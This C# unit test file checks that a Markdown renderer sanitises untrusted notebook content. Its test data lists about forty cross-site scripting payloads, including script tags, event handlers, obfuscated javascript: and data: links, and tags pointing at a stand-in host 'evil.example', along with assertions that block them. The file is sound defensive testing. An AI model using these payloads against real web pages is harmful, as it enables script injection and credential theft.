using AngleSharp.Html.Parser;
using AutoRec.Cli.Report;

namespace AutoRec.Cli.Tests;

/// <summary>Markdown of somebody else's notebook in a page of ours.</summary>
public sealed class SafeHtmlTests
{
    private static readonly MathRenderer Math = new();

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "text <script>alert(1)</script> text",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p style=\"position:fixed\">x</p>",
        "<form action=//evil.example><input name=password></form>",
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<b <script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<!-- a -- > <script>alert(1)</script> -->",
        "<a title=\"><script>alert(1)</script>\">x</a>",
        "<a title='\" onclick=alert(1) '>x</a>",
        "<object data=x></object><embed src=x><base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet "
            + "href=//evil.example>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/x.png)",
        "<img src=\"https://evil.example/x.png\">",
        "<img src=\"//evil.example/x.png\">",
        "<img src=\"data:text/html,x\">",
        "# <script>alert(1)</script>",
        "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
        "$\\href{javascript:alert(1)}{x}$",
        "</main></div></section><script>alert(1)</script>",
        "x[^1]\n\n[^1]: <script>alert(1)</script>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void ToHtml_Attack_NothingRunsAndNothingIsFetched(string markdown)
    {
        var html = Render(markdown);
        var body = new HtmlParser().ParseDocument($"<body><main id=page><section>{html}</section><i id=end></i></main></body>");
        foreach (var element in body.QuerySelectorAll("section *"))
        {
            Assert.DoesNotContain(
                element.LocalName,
                new[] { "script", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "svg", "style" });
            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            foreach (var address in new[] { element.GetAttribute("href"), element.GetAttribute("src") }.OfType<string>())
            {
                Assert.DoesNotMatch(@"(?i)^[\s\x00-\x20]*(java|vb)\s*script:|^\s*data:(?!image/)", address);
            }

            Assert.DoesNotMatch("^(https?:)?//", element.GetAttribute("src") ?? "");
            Assert.False(element.LocalName != "math" && element.GetAttribute("style")?.Contains("fixed", StringComparison.Ordinal) == true);
        }

        Assert.Equal("page", body.GetElementById("end")!.ParentElement!.Id); // the text did not close the page around it
    }

    [Theory]
    [InlineData("a <b>bold</b> x<sub>1</sub><br>y", "<b>bold</b>", "<sub>1</sub><br>")]
    [InlineData(
        "<details><summary>More</summary>\n\ntext **here**\n\n</details>",
        "<details><summary>More</summary>",
        "<strong>here</strong>",
        "</details>")]
    [InlineData("<a href=\"https://example.org/?a=1&amp;b=2\" onclick=\"x\">y</a>", "<a href=\"https://example.org/?a=1&amp;b=2\">y</a>")]
    [InlineData("1 < 2 and <dataset>", "1 &lt; 2 and &lt;dataset>")]
    [InlineData("a<!-- a note -->b", "<p>ab</p>")]
    [InlineData("<div align=center>x", "<div align=\"center\">x", "</div>")]
    [InlineData(
        "[a](https://example.org) [b](mailto:a@b.c) [c](#d)", "href=\"https://example.org\"", "href=\"mailto:a@b.c\"", "href=\"#d\"")]
    public void ToHtml_Harmless_Stays(string markdown, params string[] expected)
    {
        var html = Render(markdown);
        Assert.All(expected, part => Assert.Contains(part, html));
    }

    [Fact]
    public void ToHtml_Trusted_IsAsItIs() =>
        Assert.Contains(
            "<script>alert(1)</script>",
            new MarkdownRenderer(Math, new Links(".", ".", new Dictionary<string, string>()), isTrusted: true)
                .ToHtml("<script>alert(1)</script>"));

    private static string Render(string markdown) =>
        new MarkdownRenderer(Math, new Links(".", ".", new Dictionary<string, string>())).ToHtml(markdown);
}
